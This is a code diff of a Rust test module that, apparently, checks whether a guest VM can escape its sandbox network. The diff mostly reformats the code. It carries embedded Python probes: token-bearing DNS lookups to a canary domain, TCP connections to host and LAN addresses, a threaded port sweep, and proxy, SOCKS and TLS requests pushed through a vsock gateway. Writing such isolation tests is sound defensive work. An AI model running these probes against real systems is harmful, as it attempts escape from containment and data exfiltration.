@@ -1,7 +1,7 @@
 //! Attempts at leaving the machine: in a session, and by its root.
 
 use crate::guest::Guest;
-use crate::monitor::{Channel, Monitor};
+use crate::monitor::{Channel, Monitor, wall};
 use crate::person::Person;
 use anyhow::{Result, ensure};
 use rcc_attacks::runner::command;
@@ -15,16 +15,27 @@ const AT_ONCE: usize = 4;
 const AT_THE_MONITOR: &[Attack] = &[
     only_there("M01", "the monitor's own resolver", "once(lambda: dns('10.0.2.3', T + '.canary.example', 1))"),
     only_there("M02", "the host's loopback", "once(lambda: tcp('10.0.2.2', 9999))"),
-    only_there("M03", "the host by its own address, and its LAN", "each(lambda a: tcp(*a), ('192.168.77.20', 80), ('192.168.77.1', 80))"),
-    only_there("M04", "many at once", r"once(lambda: many())
+    only_there(
+        "M03",
+        "the host by its own address, and its LAN",
+        "each(lambda a: tcp(*a), ('192.168.77.20', 80), ('192.168.77.1', 80))",
+    ),
+    only_there(
+        "M04",
+        "many at once",
+        r"once(lambda: many())
 def many():
     import concurrent.futures
     with concurrent.futures.ThreadPoolExecutor(32) as pool:
-        list(pool.map(lambda p: tcp(SINK4, p), (80, 443, 22, 53, 8080, 47081) * 8))"),
+        list(pool.map(lambda p: tcp(SINK4, p), (80, 443, 22, 53, 8080, 47081) * 8))",
+    ),
 ];
 /// What goes to the gateway's port, where the wall lets it through: no control, since nothing lies behind it.
 const AT_THE_GATEWAY: &[Attack] = &[
-    only_there("M10", "the gateway's port as a web server, and as a proxy", r"each(lambda r: port(r),
+    only_there(
+        "M10",
+        "the gateway's port as a web server, and as a proxy",
+        r"each(lambda r: port(r),
     b'GET http://allowed.example/%s HTTP/1.1\r\nhost: allowed.example\r\n\r\n', b'CONNECT allowed.example:443 HTTP/1.1\r\n\r\n%s', b'\5\1\0%s', b'\x16\3\1\0\x40%s')
 def port(r):
     with gateway() as s:
@@ -39,8 +50,12 @@ def gateway():
     s = socket.socket(socket.AF_VSOCK)
     s.settimeout(20)
     s.connect((int(where[1]), int(where[2])))
-    return s"),
-    only_there("M11", "a ticket that was guessed", r"once(lambda: port())
+    return s",
+    ),
+    only_there(
+        "M11",
+        "a ticket that was guessed",
+        r"once(lambda: port())
 def port():
     with gateway() as s:
         s.settimeout(20)
@@ -54,7 +69,8 @@ def gateway():
     s = socket.socket(socket.AF_VSOCK)
     s.settimeout(20)
     s.connect((int(where[1]), int(where[2])))
-    return s"),
+    return s",
+    ),
 ];
 
 const fn only_there(id: &'static str, what: &'static str, command: &'static str) -> Attack {
@@ -81,10 +97,11 @@ pub fn by_root(rig: &Rig<'_>, guest: &mut Guest, monitor: &Monitor, whole: bool)
         .chain(AT_THE_MONITOR.iter().copied())
         .collect();
     let (mut wrong, mut seen_without) = (String::new(), Vec::new());
-    let seen = |token: &str| -> Result<bool> { Ok(rig.world.assert_unseen(token).is_err() || monitor.service_saw(token)) };
+    let seen =
+        |token: &str| -> Result<bool> { Ok(rig.world.assert_unseen(token).is_err() || monitor.service_saw(token)) };
     for up in [true, false] {
         if !up {
-            monitor.wall(false)?;
+            wall(false)?;
         }
         let tokens: Vec<String> = all.iter().map(|_| rig.world.token()).collect();
         let said = make(guest, monitor, &all, &tokens)?;
@@ -97,7 +114,7 @@ pub fn by_root(rig: &Rig<'_>, guest: &mut Guest, monitor: &Monitor, whole: bool)
             }
         }
     }
-    monitor.wall(true)?;
+    wall(true)?;
     let tokens: Vec<String> = AT_THE_GATEWAY.iter().map(|_| rig.world.token()).collect();
     let said = make(guest, monitor, AT_THE_GATEWAY, &tokens)?;
     for (attack, token) in AT_THE_GATEWAY.iter().zip(&tokens) {
@@ -105,7 +122,12 @@ pub fn by_root(rig: &Rig<'_>, guest: &mut Guest, monitor: &Monitor, whole: bool)
             writeln!(wrong, "{} ({}): {said}", attack.id, attack.what)?;
         }
     }
-    println!("       {} attempts; without the wall {} were seen: {}", all.len(), seen_without.len(), seen_without.join(" "));
+    println!(
+        "       {} attempts; without the wall {} were seen: {}",
+        all.len(),
+        seen_without.len(),
+        seen_without.join(" ")
+    );
     // A machine without a network card has nothing to take down: the channel itself is the wall.
     let carried: &[&str] = match monitor.channel {
         Channel::Network => &["N01", "N06", "N13b", "N13c", "D01", "D07", "M01", "M02", "M03", "M04"],
